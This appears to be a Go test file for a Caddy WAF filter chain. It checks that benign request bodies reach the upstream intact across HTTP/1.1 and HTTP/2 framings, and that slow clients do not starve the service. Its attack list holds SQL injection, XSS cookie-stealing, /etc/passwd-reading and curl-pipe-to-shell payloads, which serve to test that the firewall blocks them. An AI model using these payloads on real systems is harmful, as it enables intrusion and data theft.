package gojinn

import (
	"bufio"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httptrace"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/caddyserver/caddy/v2/caddytest"
)

// The WAF chain of issue 22 (waf, hello, secheaders in front of
// reverse_proxy) driven through Caddy with request bodies in every framing
// a client can send them in, and with clients that send them slowly.

// guard bounds every wait of these tests: it fires only when something
// hangs, never on a slow machine.
const guard = 30 * time.Second

// bodyReport is what the hashing upstream says it received.
type bodyReport struct {
	Proto         string `json:"proto"`
	Len           int    `json:"len"`
	SHA256        string `json:"sha256"`
	ContentType   string `json:"content_type"`
	ContentLength int64  `json:"content_length"`
	// As a sender's own check sees the request (see TestFramings): the
	// upstream behind Caddy gets the chain's framing, not the client's.
	TransferEncoding []string    `json:"transfer_encoding,omitempty"`
	Trailer          http.Header `json:"trailer,omitempty"`
	Expect           string      `json:"expect,omitempty"`
}

// hashingUpstream answers every request with a bodyReport of it.
func hashingUpstream(w http.ResponseWriter, r *http.Request) {
	b, err := io.ReadAll(r.Body)
	if err != nil {
		http.Error(w, err.Error(), http.StatusBadRequest)
		return
	}
	sum := sha256.Sum256(b)
	w.Header().Set("Content-Type", "application/json")
	_ = json.NewEncoder(w).Encode(bodyReport{
		Proto: r.Proto, Len: len(b), SHA256: hex.EncodeToString(sum[:]),
		ContentType: r.Header.Get("Content-Type"), ContentLength: r.ContentLength,
		TransferEncoding: r.TransferEncoding, Trailer: r.Trailer, Expect: r.Header.Get("Expect"),
	})
}

func sha(b []byte) string {
	sum := sha256.Sum256(b)
	return hex.EncodeToString(sum[:])
}

// answer is a response as a sender got it.
type answer struct {
	status int
	body   []byte
	// continued says an interim 100 Continue came before the body.
	continued bool
	// interim counts the 1xx responses after the body.
	interim int
}

// A sender posts body to path on the server at addr (host:port) in one
// framing.
type sender func(t *testing.T, addr, path, ctype string, body []byte) answer

// rawHTTP1 writes a request by hand, which is the only way to get some
// framings (trailers, an Expect the client waits on), and reads the answer.
func rawHTTP1(t *testing.T, addr, head string, body func(w io.Writer, br *bufio.Reader) (continued bool)) answer {
	t.Helper()
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(guard))
	if _, err := io.WriteString(conn, head); err != nil {
		t.Fatal(err)
	}
	br := bufio.NewReader(conn)
	a := answer{continued: body(conn, br)}
	for {
		resp, err := http.ReadResponse(br, nil)
		if err != nil {
			t.Fatal(err)
		}
		if resp.StatusCode >= 200 {
			defer resp.Body.Close()
			if a.body, err = io.ReadAll(resp.Body); err != nil {
				t.Fatal(err)
			}
			a.status = resp.StatusCode
			return a
		}
		a.interim++
	}
}

func requestHead(addr, path, ctype string, fields ...string) string {
	return "POST " + path + " HTTP/1.1\r\nHost: " + addr + "\r\nContent-Type: " + ctype + "\r\n" +
		strings.Join(fields, "") + "Connection: close\r\n\r\n"
}

// writeChunks writes body in chunks of 1000 bytes and the last chunk,
// with trailer lines if any.
func writeChunks(t *testing.T, w io.Writer, body []byte, trailer string) {
	t.Helper()
	var b bytes.Buffer
	for rest := body; len(rest) > 0; {
		n := min(len(rest), 1000)
		fmt.Fprintf(&b, "%x\r\n%s\r\n", n, rest[:n])
		rest = rest[n:]
	}
	b.WriteString("0\r\n" + trailer + "\r\n")
	if _, err := w.Write(b.Bytes()); err != nil {
		t.Fatal(err)
	}
}

func sendContentLength(t *testing.T, addr, path, ctype string, body []byte) answer {
	head := requestHead(addr, path, ctype, "Content-Length: "+strconv.Itoa(len(body))+"\r\n")
	return rawHTTP1(t, addr, head, func(w io.Writer, _ *bufio.Reader) bool {
		if _, err := w.Write(body); err != nil {
			t.Fatal(err)
		}
		return false
	})
}

func sendChunked(t *testing.T, addr, path, ctype string, body []byte) answer {
	head := requestHead(addr, path, ctype, "Transfer-Encoding: chunked\r\n")
	return rawHTTP1(t, addr, head, func(w io.Writer, _ *bufio.Reader) bool {
		writeChunks(t, w, body, "")
		return false
	})
}

func sendChunkedTrailers(t *testing.T, addr, path, ctype string, body []byte) answer {
	head := requestHead(addr, path, ctype, "Transfer-Encoding: chunked\r\n", "Trailer: X-Body-Digest\r\n")
	return rawHTTP1(t, addr, head, func(w io.Writer, _ *bufio.Reader) bool {
		writeChunks(t, w, body, "X-Body-Digest: sha-256="+sha(body)+"\r\n")
		return false
	})
}

// sendExpectContinue waits for the server's 100 Continue before sending
// the body, as a careful client does (curl does it for large bodies).
func sendExpectContinue(t *testing.T, addr, path, ctype string, body []byte) answer {
	head := requestHead(addr, path, ctype, "Content-Length: "+strconv.Itoa(len(body))+"\r\n", "Expect: 100-continue\r\n")
	return rawHTTP1(t, addr, head, func(w io.Writer, br *bufio.Reader) bool {
		line, err := br.ReadString('\n')
		if err != nil {
			t.Fatal(err)
		}
		if !strings.HasPrefix(line, "HTTP/1.1 100 ") {
			t.Fatalf("the server answered %q before the body", line)
		}
		if blank, err := br.ReadString('\n'); err != nil || blank != "\r\n" {
			t.Fatalf("after the 100: %q %v", blank, err)
		}
		if _, err := w.Write(body); err != nil {
			t.Fatal(err)
		}
		return true
	})
}

// h2cClient speaks HTTP/2 over plain TCP with prior knowledge, as Caddy
// serves it when the server's protocols include h2c.
func h2cClient() *http.Client {
	var p http.Protocols
	p.SetUnencryptedHTTP2(true)
	return &http.Client{Transport: &http.Transport{Protocols: &p}, Timeout: guard}
}

func sendH2(t *testing.T, addr, path, ctype string, body []byte, withLength bool) answer {
	t.Helper()
	req, err := http.NewRequest(http.MethodPost, "http://"+addr+path, bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Content-Type", ctype)
	if !withLength {
		// An unknown length: the client sends no content-length.
		req.ContentLength, req.GetBody = -1, nil
		req.Body = io.NopCloser(bytes.NewReader(body))
	}
	c := h2cClient()
	defer c.CloseIdleConnections()
	resp, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.ProtoMajor != 2 {
		t.Fatalf("answered in %s", resp.Proto)
	}
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return answer{status: resp.StatusCode, body: b}
}

var framings = []struct {
	name string
	send sender
	// what a plain Go server sees of the framing (TestFramings)
	proto         string
	contentLength bool
	chunked       bool
	trailer       bool
	expect        bool
}{
	{name: "Content-Length", send: sendContentLength, proto: "HTTP/1.1", contentLength: true},
	{name: "chunked", send: sendChunked, proto: "HTTP/1.1", chunked: true},
	{name: "chunked with trailers", send: sendChunkedTrailers, proto: "HTTP/1.1", chunked: true, trailer: true},
	{name: "HTTP/2 with content-length", proto: "HTTP/2.0", contentLength: true,
		send: func(t *testing.T, addr, path, ctype string, body []byte) answer {
			return sendH2(t, addr, path, ctype, body, true)
		}},
	{name: "HTTP/2 without content-length", proto: "HTTP/2.0",
		send: func(t *testing.T, addr, path, ctype string, body []byte) answer {
			return sendH2(t, addr, path, ctype, body, false)
		}},
	{name: "Expect: 100-continue", send: sendExpectContinue, proto: "HTTP/1.1", contentLength: true, expect: true},
}

// TestFramings checks the senders against a plain Go server: each sends
// the framing it claims, and the server gets the body whole.
func TestFramings(t *testing.T) {
	srv := httptest.NewUnstartedServer(http.HandlerFunc(hashingUpstream))
	srv.Config.Protocols = new(http.Protocols)
	srv.Config.Protocols.SetHTTP1(true)
	srv.Config.Protocols.SetUnencryptedHTTP2(true)
	srv.Start()
	defer srv.Close()
	addr := srv.Listener.Addr().String()
	body := bytes.Repeat([]byte("a body of some length; "), 200)
	for _, f := range framings {
		t.Run(f.name, func(t *testing.T) {
			a := f.send(t, addr, "/", "text/plain", body)
			var got bodyReport
			if err := json.Unmarshal(a.body, &got); err != nil || a.status != 200 {
				t.Fatalf("%d %s: %v", a.status, a.body, err)
			}
			if got.Proto != f.proto || (got.ContentLength >= 0) != f.contentLength ||
				(len(got.TransferEncoding) > 0) != f.chunked || (got.Trailer.Get("X-Body-Digest") != "") != f.trailer ||
				(got.Expect != "" || a.continued) != f.expect {
				t.Errorf("the server saw %+v (continued %v)", got, a.continued)
			}
			if got.SHA256 != sha(body) {
				t.Errorf("the server got %d bytes, not the body", got.Len)
			}
		})
	}
}

// bodyChain is the chain in front of the hashing upstream; the
// /stall/ route waits at most a second for a body. The WAF's time limit is
// 1.5 s: under the 2 s of the slow upload, which read inside the call
// would time out, and with room for its configure (a few hundred ms under
// -race on a busy machine).
func bodyChain(t *testing.T) (*caddyTester, string) {
	up := httptest.NewServer(http.HandlerFunc(hashingUpstream))
	t.Cleanup(up.Close)
	chain := func(extra string) string {
		return fmt.Sprintf(`gojinn_chain {
			%s
			filter waf %s {
				pool 1 8
				timeout 1500ms
			}
			filter hello %s {
				%s
			}
			filter secheaders %s {
				%s
			}
		}
		reverse_proxy %s`, extra, wafWasm(t), helloWasm(t), patient, secheadersWasm(t), patient, strings.TrimPrefix(up.URL, "http://"))
	}
	tc := newTester(t)
	tc.InitServer(fmt.Sprintf(`{
	admin localhost:%d
	http_port %d
	skip_install_trust
	servers {
		protocols h1 h2c
	}
}
http://localhost:%d {
	handle /stall/* {
		%s
	}
	handle {
		%s
	}
}
`, adminPort, caddyPort, caddyPort, chain("body_timeout 1s"), chain("")), "caddyfile")
	return &caddyTester{tc}, fmt.Sprintf("localhost:%d", caddyPort)
}

func TestCaddyWAFBodies(t *testing.T) {
	tc, addr := bodyChain(t)
	t.Run("framings", func(t *testing.T) { testFramings(t, addr) })
	t.Run("slow clients", func(t *testing.T) { testSlowClients(t, tc, addr) })
}

// testFramings: every attack body is refused in every framing, and every
// benign one reaches the upstream byte for byte.
func testFramings(t *testing.T, addr string) {
	form, jsonType, plain := "application/x-www-form-urlencoded", "application/json", "text/plain"
	attacks := []struct{ name, ctype, body string }{
		{"SQL injection, form", form, "user=ada&q=1%27%20UNION%20SELECT%20password%20FROM%20users--"},
		{"SQL injection, JSON", jsonType, `{"user":"ada","filter":"1' OR '1'='1' --"}`},
		{"XSS, JSON", jsonType, `{"comment":"<script>alert(document.cookie)</script>"}`},
		{"XSS, form", form, "comment=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"},
		{"command injection, form", form, "host=example.com%3B%20cat%20%2Fetc%2Fpasswd"},
		{"command injection, plain", plain, "ping -c 1 example.com; curl http://203.0.113.9/x.sh | sh"},
	}
	benign := []struct{ name, ctype, body string }{
		{"form", form, "q=red+running+shoes&size=42&colour=blue"},
		{"JSON", jsonType, `{"order":{"id":42,"items":["shoes","socks"]},"note":"please deliver after five"}`},
		{"plain", plain, "Dear shop, the shoes arrived and fit well. Thank you!\n"},
		{"large plain, many chunks", plain, strings.Repeat("The quick brown fox jumps over the lazy dog. ", 2000)},
	}
	for _, f := range framings {
		t.Run(f.name, func(t *testing.T) {
			for _, a := range attacks {
				got := f.send(t, addr, "/submit", a.ctype, []byte(a.body))
				if got.status != http.StatusForbidden || !bytes.Contains(got.body, []byte("web application firewall")) {
					t.Errorf("attack %s: %d %q, want the WAF's 403", a.name, got.status, got.body)
				}
			}
			for _, b := range benign {
				got := f.send(t, addr, "/submit", b.ctype, []byte(b.body))
				var seen bodyReport
				if err := json.Unmarshal(got.body, &seen); got.status != 200 || err != nil {
					t.Errorf("benign %s: %d %q", b.name, got.status, got.body)
					continue
				}
				if seen.SHA256 != sha([]byte(b.body)) || seen.ContentType != b.ctype {
					t.Errorf("benign %s: the upstream got %d bytes of %s, not the body", b.name, seen.Len, seen.ContentType)
				}
				if got.interim != 0 {
					// The host took the body: the upstream is not to
					// be asked to continue again.
					t.Errorf("benign %s: %d interim responses after the body", b.name, got.interim)
				}
			}
		})
	}
}

// testSlowClients: clients that send their bodies slowly wait on the
// host, not on the WAF's instances: the rest of the site is served.
func testSlowClients(t *testing.T, tc *caddyTester, addr string) {

	t.Run("64 clients trickling", func(t *testing.T) {
		const clients, length = 64, 50
		body := []byte("comment=" + strings.Repeat("x", length-8))
		getsDone := make(chan struct{})
		var started, finished sync.WaitGroup
		results := make(chan string, clients)
		for range clients {
			started.Add(1)
			finished.Add(1)
			go func() {
				defer finished.Done()
				results <- trickle(addr, body, &started, getsDone)
			}()
		}
		started.Wait()
		// Every slow client has sent its header and a first byte and
		// none will finish before the GETs are done.
		const gets = 30
		for i := range gets {
			code, b, _ := tc.get(t, "/")
			if code != http.StatusOK {
				t.Fatalf("GET %d of %d next to %d slow clients: %d %q", i+1, gets, clients, code, b)
			}
		}
		close(getsDone)
		finished.Wait()
		close(results)
		for r := range results {
			if r != "200 "+sha(body) {
				t.Errorf("a slow client got %s", r)
			}
		}
	})

	t.Run("200 KiB at 100 KiB/s", func(t *testing.T) {
		const size, step = 200 << 10, 10 << 10
		body := bytes.Repeat([]byte("A plain upload of ordinary text, nothing in it. "), size/48+1)[:size]
		pr, pw := io.Pipe()
		go func() {
			for rest := body; len(rest) > 0; rest = rest[step:] {
				time.Sleep(100 * time.Millisecond)
				if _, err := pw.Write(rest[:step]); err != nil {
					return
				}
			}
			pw.Close()
		}()
		req, _ := http.NewRequest(http.MethodPost, "http://"+addr+"/upload", pr)
		req.ContentLength = size
		req.Header.Set("Content-Type", "text/plain")
		resp, err := (&http.Client{Timeout: guard}).Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		var seen bodyReport
		if err := json.Unmarshal(b, &seen); resp.StatusCode != 200 || err != nil || seen.SHA256 != sha(body) {
			t.Fatalf("slow upload: %d %q", resp.StatusCode, b)
		}
	})

	t.Run("a client that stops sending", func(t *testing.T) {
		for _, head := range []string{
			"Content-Length: 100\r\n\r\ncomment=abc",
			"Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n",
		} {
			conn, err := net.Dial("tcp", addr)
			if err != nil {
				t.Fatal(err)
			}
			conn.SetDeadline(time.Now().Add(guard))
			if _, err := io.WriteString(conn, "POST /stall/x HTTP/1.1\r\nHost: "+addr+"\r\n"+
				"Content-Type: application/x-www-form-urlencoded\r\n"+head); err != nil {
				t.Fatal(err)
			}
			br := bufio.NewReader(conn)
			resp, err := http.ReadResponse(br, nil)
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			if resp.StatusCode != http.StatusRequestTimeout {
				t.Errorf("%q, then nothing: %d, want 408", head, resp.StatusCode)
			}
			if _, err := br.ReadByte(); err != io.EOF {
				t.Errorf("%q: the connection is still open after the 408 (%v)", head, err)
			}
			conn.Close()
		}
		// HTTP/2: the stream is cut, not the connection.
		pr, pw := io.Pipe()
		defer pw.Close()
		go pw.Write([]byte("comment=abc")) // then nothing
		req, _ := http.NewRequest(http.MethodPost, "http://"+addr+"/stall/x", pr)
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		c := h2cClient()
		defer c.CloseIdleConnections()
		resp, err := c.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusRequestTimeout || resp.ProtoMajor != 2 {
			t.Errorf("HTTP/2, a body that stops: %s %d, want 408", resp.Proto, resp.StatusCode)
		}
		var reused bool
		trace := &httptrace.ClientTrace{GotConn: func(i httptrace.GotConnInfo) { reused = i.Reused }}
		req, _ = http.NewRequestWithContext(httptrace.WithClientTrace(context.Background(), trace), http.MethodGet, "http://"+addr+"/stall/x", nil)
		if resp, err = c.Do(req); err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusOK || !reused {
			t.Errorf("HTTP/2, the next request: %d, on the same connection: %v", resp.StatusCode, reused)
		}
		if code, b, _ := tc.get(t, "/stall/x"); code != http.StatusOK {
			t.Fatalf("after the 408s: %d %q", code, b)
		}
	})
}

// trickle sends a request whose body comes a byte every 100 ms, and the
// rest once getsDone is closed; it reports the status and the digest the
// upstream saw.
func trickle(addr string, body []byte, started *sync.WaitGroup, getsDone <-chan struct{}) string {
	once := sync.OnceFunc(started.Done)
	defer once()
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		return err.Error()
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(guard))
	head := "POST /comment HTTP/1.1\r\nHost: " + addr + "\r\nContent-Type: application/x-www-form-urlencoded\r\n" +
		"Content-Length: " + strconv.Itoa(len(body)) + "\r\n\r\n"
	if _, err := io.WriteString(conn, head); err != nil {
		return err.Error()
	}
	sent := 0
trickling:
	for sent < len(body)-1 {
		if _, err := conn.Write(body[sent : sent+1]); err != nil {
			return err.Error()
		}
		sent++
		once()
		select {
		case <-getsDone:
			break trickling
		case <-time.After(100 * time.Millisecond):
		}
	}
	<-getsDone
	if _, err := conn.Write(body[sent:]); err != nil {
		return err.Error()
	}
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		return err.Error()
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	var seen bodyReport
	_ = json.Unmarshal(b, &seen)
	return strconv.Itoa(resp.StatusCode) + " " + seen.SHA256
}

// caddyTester wraps caddytest's tester with the request helper of
// e2e_test.go.
type caddyTester struct{ *caddytest.Tester }

func (tc *caddyTester) get(t *testing.T, path string) (int, string, http.Header) {
	t.Helper()
	return get(t, tc.Tester, path, nil)
}
